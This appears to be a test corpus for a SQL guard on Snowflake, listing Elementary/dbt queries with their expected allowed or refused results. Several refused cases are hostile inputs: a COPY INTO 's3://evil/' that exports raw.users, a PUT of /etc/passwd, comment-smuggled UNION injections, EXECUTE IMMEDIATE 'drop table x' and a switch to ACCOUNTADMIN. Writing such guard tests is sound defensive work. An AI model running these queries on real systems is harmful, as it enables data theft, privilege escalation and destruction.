-- The corpus of the SQL guard for snowflake; postgres.sql says how to read it.

-- > allowed: dbt_models
SELECT * FROM dbt_models

-- > allowed: dbt_models
select name from ELEMENTARY.DBT_MODELS;

-- > allowed: dbt_models
SELECT name FROM analytics.elementary.dbt_models

-- > allowed: dbt_models
SELECT "NAME" FROM "ANALYTICS"."ELEMENTARY"."DBT_MODELS"

-- > allowed: dbt_models [schema=ELEMENTARY database=ANALYTICS]
SELECT name FROM analytics.elementary.dbt_models

-- > allowed: dbt_models [schema=elementary database=analytics]
SELECT name FROM "analytics"."elementary".dbt_models

-- > refused: not of the schema 'elementary' [schema=elementary]
SELECT name FROM elementary.dbt_models

-- > allowed: dbt_models [schema=My_Elementary]
SELECT name FROM "My_Elementary".dbt_models

-- > allowed: elementary_test_results
SELECT status, COUNT(*) AS n, COUNT_IF(severity = 'ERROR') FROM elementary_test_results
WHERE detected_at >= DATEADD(day, -7, CURRENT_TIMESTAMP()) GROUP BY ALL ORDER BY n DESC LIMIT 20

-- > allowed: dbt_run_results
SELECT unique_id, status, created_at FROM dbt_run_results
QUALIFY ROW_NUMBER() OVER (PARTITION BY unique_id ORDER BY created_at DESC) = 1

-- > allowed: dbt_models
SELECT meta:owner.email::string, PARSE_JSON(tags)[0]::varchar, GET_PATH(PARSE_JSON(meta), 'a.b'), meta['x']
FROM dbt_models

-- > allowed: dbt_models
SELECT TRY_PARSE_JSON(meta):owner::string AS owner, ARRAY_SIZE(PARSE_JSON(tags)), m.meta:a.b FROM dbt_models m

-- > allowed: dbt_models, dbt_tests
SELECT m.name, LISTAGG(t.short_name, ', ') WITHIN GROUP (ORDER BY t.short_name) AS tests
FROM dbt_models m LEFT JOIN dbt_tests t ON t.parent_model_unique_id = m.unique_id GROUP BY m.name

-- > allowed: dbt_invocations
SELECT DATE_TRUNC('hour', created_at), DATEDIFF('minute', TO_TIMESTAMP(run_started_at), created_at),
       TO_CHAR(created_at, 'YYYY-MM-DD'), CONVERT_TIMEZONE('UTC', created_at), created_at::date, LAST_DAY(created_at)
FROM dbt_invocations

-- > allowed: dbt_run_results
SELECT IFF(status = 'success', 1, 0), NVL(name, ''), ZEROIFNULL(rows_affected), DIV0(failures, rows_affected),
       DECODE(status, 'error', 1, 0), TRY_TO_NUMBER(query_id), TRY_CAST(thread_id AS NUMBER(10, 0))
FROM dbt_run_results

-- > allowed: data_monitoring_metrics
SELECT MEDIAN(metric_value), APPROX_PERCENTILE(metric_value, 0.9), PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY metric_value)
FROM data_monitoring_metrics WHERE column_name IS NULL

-- > allowed: data_monitoring_metrics
SELECT full_table_name, metric_value - LAG(metric_value) IGNORE NULLS OVER (PARTITION BY full_table_name ORDER BY bucket_end)
FROM data_monitoring_metrics

-- > allowed: dbt_models
SELECT * EXCLUDE (meta, owner) RENAME (name AS model) FROM dbt_models

-- > allowed: dbt_models
SELECT m.* EXCLUDE meta FROM dbt_models m

-- > allowed: dbt_models
SELECT TOP 5 name FROM dbt_models

-- > allowed: dbt_invocations, dbt_run_results
WITH runs AS (SELECT * FROM dbt_run_results), calls AS (SELECT * FROM dbt_invocations)
SELECT * FROM runs JOIN calls USING (invocation_id)

-- > allowed: dbt_models
WITH "Mine" AS (SELECT name FROM dbt_models) SELECT * FROM "Mine"

-- > allowed: dbt_models
WITH mine AS (SELECT name FROM dbt_models) SELECT * FROM "MINE"

-- > allowed: dbt_models, dbt_seeds
SELECT name FROM dbt_models MINUS SELECT name FROM dbt_seeds

-- > allowed: dbt_run_results, elementary_test_results
SELECT * FROM dbt_run_results r ASOF JOIN elementary_test_results e MATCH_CONDITION (r.created_at >= e.created_at)
ON r.invocation_id = e.invocation_id

-- > allowed: dbt_models, dbt_run_results
SELECT m.name, x.n FROM dbt_models m, LATERAL (SELECT COUNT(*) AS n FROM dbt_run_results r WHERE r.unique_id = m.unique_id) x

-- > allowed: dbt_models
SELECT name FROM dbt_models WHERE name ILIKE ANY ('stg_%', 'int_%') OR name RLIKE '^x' OR REGEXP_LIKE(path, '\\w+')

-- > allowed: dbt_models
SELECT 'it\'s', 'it''s', 'a\\nb' FROM dbt_models

-- > allowed: dbt_models
SELECT name -- comment
     , /* another */ path FROM dbt_models

-- > allowed: dbt_models
SELECT OBJECT_CONSTRUCT('a', name, 'b', path) FROM dbt_models

-- > allowed: dbt_tests
SELECT t.column1 FROM (VALUES ('a'), ('b')) t, dbt_tests x WHERE x.name = t.column1

-- > allowed: metadata
SELECT dbt_pkg_version FROM metadata

-- > refused: dollar quotes
SELECT name, $$x$$ FROM dbt_models

-- > refused: is not a table of the Elementary schema
SELECT * FROM users

-- > refused: not of the schema 'raw'
SELECT * FROM raw.users

-- > refused: not of the schema 'PUBLIC'
SELECT * FROM "PUBLIC".dbt_models

-- > refused: not of the database 'prod'
SELECT * FROM prod.elementary.dbt_models

-- > refused: empty part
SELECT * FROM analytics..dbt_models

-- > refused: in this spelling
SELECT * FROM "dbt_models"

-- > refused: not of the schema 'elementary'
SELECT * FROM "elementary".dbt_models

-- > refused: not of the schema 'my_elementary' [schema=My_Elementary]
SELECT * FROM my_elementary.dbt_models

-- > refused: 'mine' is not a table of the Elementary schema
WITH mine AS (SELECT name FROM dbt_models) SELECT * FROM "mine"

-- > refused: not of the schema 'information_schema'
SELECT * FROM information_schema.tables

-- > refused: not of the schema 'information_schema'
SELECT * FROM analytics.information_schema.columns

-- > refused: not of the schema 'account_usage'
SELECT * FROM snowflake.account_usage.query_history

-- > refused: not of the schema 'raw'
WITH dbt_models AS (SELECT * FROM raw.users) SELECT * FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models QUALIFY ROW_NUMBER() OVER (ORDER BY (SELECT COUNT(*) FROM raw.users)) = 1

-- > refused: not of the schema 'raw'
SELECT * FROM dbt_run_results r ASOF JOIN raw.users u MATCH_CONDITION (r.created_at >= u.created_at)

-- > refused: not of the schema 'raw'
SELECT PARSE_JSON((SELECT email FROM raw.users)):a FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT * REPLACE ((SELECT MAX(email) FROM raw.users) AS name) FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT CASE WHEN EXISTS (SELECT 1 FROM raw.users) THEN 1 END

-- > refused: function
SELECT * FROM TABLE('raw.users')

-- > refused: dollar quotes
SELECT * FROM TABLE($tbl)

-- > refused: 'identifier'
SELECT * FROM IDENTIFIER('raw.users')

-- > refused: 'identifier'
SELECT IDENTIFIER('name') FROM dbt_models

-- > refused: 'result_scan'
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))

-- > refused: 'query_history'
SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())

-- > refused: 'generator'
SELECT * FROM TABLE(GENERATOR(ROWCOUNT => 1000000000))

-- > allowed: dbt_models
SELECT f.value FROM dbt_models m, LATERAL FLATTEN(input => PARSE_JSON(m.tags)) f

-- > allowed: dbt_models
SELECT f.value FROM dbt_models m, TABLE(FLATTEN(PARSE_JSON(m.tags))) f

-- > refused: stages
SELECT * FROM @mystage

-- > refused: stages
SELECT * FROM @~/secret.csv

-- > refused: dollar quotes
SELECT $1 FROM @mystage/file.csv (FILE_FORMAT => 'x')

-- > refused: stages and files
SELECT * FROM '@mystage/file.csv'

-- > refused: stages and files
SELECT * FROM 's3://bucket/file.csv'

-- > refused: dollar quotes
SELECT SYSTEM$WHITELIST()

-- > refused: dollar quotes
SELECT SYSTEM$CANCEL_ALL_QUERIES(1) FROM dbt_models

-- > refused: dollar quotes
SELECT METADATA$FILENAME FROM dbt_models

-- > refused: 'current_role'
SELECT CURRENT_ROLE()

-- > refused: 'current_account'
SELECT CURRENT_ACCOUNT(), name FROM dbt_models

-- > refused: Current User
SELECT CURRENT_USER

-- > refused: 'get_ddl'
SELECT GET_DDL('table', 'raw.users')

-- > refused: stages
SELECT GET_PRESIGNED_URL(@s, 'x')

-- > refused: 'build_scoped_file_url'
SELECT BUILD_SCOPED_FILE_URL('@s', 'x')

-- > refused: 'complete'
SELECT SNOWFLAKE.CORTEX.COMPLETE('m', name) FROM dbt_models

-- > refused: 'my_udf'
SELECT raw.my_udf(name) FROM dbt_models

-- > refused: 'my_udf'
SELECT my_udf(name) FROM dbt_models

-- > refused: 'encrypt'
SELECT ENCRYPT(name, 'x') FROM dbt_models

-- > refused: 'seq4'
SELECT SEQ4() FROM dbt_models

-- > refused: nextval
SELECT s.nextval FROM dbt_models s

-- > refused: nextval
SELECT raw.s.nextval

-- > refused: 's' is no table of this query
SELECT s.number FROM dbt_models

-- > refused: 'at'
SELECT * FROM dbt_models AT (OFFSET => -60)

-- > refused: 'before'
SELECT * FROM dbt_models BEFORE (STATEMENT => 'x')

-- > refused: 'changes'
SELECT * FROM dbt_models CHANGES (INFORMATION => DEFAULT) AT (OFFSET => -60)

-- > refused: 'sample'
SELECT * FROM dbt_models SAMPLE (10)

-- > refused: function
SELECT * FROM dbt_models TABLESAMPLE BERNOULLI (10)

-- > refused: PIVOT is not allowed
SELECT * FROM dbt_run_results PIVOT (COUNT(name) FOR status IN ('a', 'b'))

-- > refused: function
SELECT * FROM dbt_run_results MATCH_RECOGNIZE (ORDER BY created_at PATTERN (a) DEFINE a AS true)

-- > refused: CONNECT BY
SELECT name FROM dbt_models START WITH name = 'x' CONNECT BY PRIOR name = alias

-- > refused: dollar quotes
SELECT $x FROM dbt_models

-- > refused: dollar quotes
SELECT * FROM $x

-- > refused: bind placeholders
SELECT name FROM dbt_models WHERE name = :1

-- > refused: bind placeholders
SELECT name FROM dbt_models WHERE name = ?

-- > refused: only -- and /* */
SELECT name FROM dbt_models // UNION SELECT email FROM raw.users

-- > refused: only -- and /* */
SELECT 1 // ' FROM raw.users
FROM dbt_models WHERE name = '

-- > refused: flow operator
SELECT * FROM dbt_models ->> SELECT * FROM $1

-- > refused: flow operator
SHOW TABLES ->> SELECT * FROM x

-- > refused: SELECT or WITH
SHOW GRANTS

-- > refused: SELECT or WITH
DESCRIBE TABLE dbt_models

-- > refused: SELECT or WITH
USE ROLE ACCOUNTADMIN

-- > refused: SELECT or WITH
CALL SYSTEM_PROC()

-- > refused: SELECT or WITH
EXECUTE IMMEDIATE 'drop table x'

-- > refused: stages
COPY INTO @s FROM dbt_models

-- > refused: SELECT or WITH
COPY INTO 's3://evil/' FROM (SELECT * FROM raw.users)

-- > refused: stages
LIST @s

-- > refused: only -- and /* */
PUT file:///etc/passwd @s

-- > refused: SELECT or WITH
ALTER SESSION SET x = 1

-- > refused: SELECT or WITH
EXPLAIN SELECT * FROM raw.users

-- > refused: more than one
BEGIN SELECT 1; END

-- > refused: more than one
SELECT 1; USE SECONDARY ROLES ALL

-- > refused: INSERT is not allowed
WITH x AS (SELECT 1) INSERT INTO dbt_models SELECT * FROM x

-- > refused: SELECT or WITH
FROM dbt_models

-- > refused: that some warehouses execute
SELECT /*+ x */ 1

-- > refused: braces
SELECT {'a': 1}

-- > refused: backslash outside
SELECT name FROM dbt_models WHERE name = \'x'

-- > refused: prefix that touches a quote
SELECT X'41' FROM dbt_models

-- > refused: empty part
SELECT * FROM "".""."DBT_MODELS"

-- > refused: not a plain one
SELECT name::geography FROM dbt_models

-- > refused: function
SELECT TO_QUERY('select 1')

-- > refused: function
SELECT * FROM SEMANTIC_VIEW(raw.v METRICS m)

-- > refused: 'users' is not a table of the Elementary schema
WITH RECURSIVE users AS (SELECT * FROM users UNION ALL SELECT * FROM users) SELECT * FROM users

-- > refused: 'users' is not a table of the Elementary schema
WITH users AS (SELECT 1 AS n UNION ALL SELECT n FROM users) SELECT * FROM users

-- > allowed: dbt_models
WITH RECURSIVE up AS (SELECT name FROM dbt_models UNION ALL SELECT name FROM up) SELECT * FROM up

-- > allowed: dbt_run_results
SELECT status, RATIO_TO_REPORT(COUNT(*)) OVER () FROM dbt_run_results GROUP BY status

-- > allowed: dbt_models
SELECT r.value:a FROM (SELECT PARSE_JSON(meta) AS value FROM dbt_models) r

-- > allowed: dbt_invocations
SELECT TO_VARCHAR(created_at, 'YYYY'), MONTHNAME(created_at), TIMEADD(hour, 1, created_at) FROM dbt_invocations LIMIT 5 OFFSET 2

-- > allowed: dbt_models, dbt_sources
SELECT m.name FROM dbt_models m WHERE EXISTS (SELECT 1 FROM dbt_sources s WHERE s.name = m.name AND s.owner LIKE ANY ('a%', 'b%'))

-- > allowed: dbt_models, metadata
WITH RECURSIVE dbt_tests AS (SELECT 1 FROM metadata), metadata AS (SELECT name FROM dbt_models) SELECT name FROM dbt_models
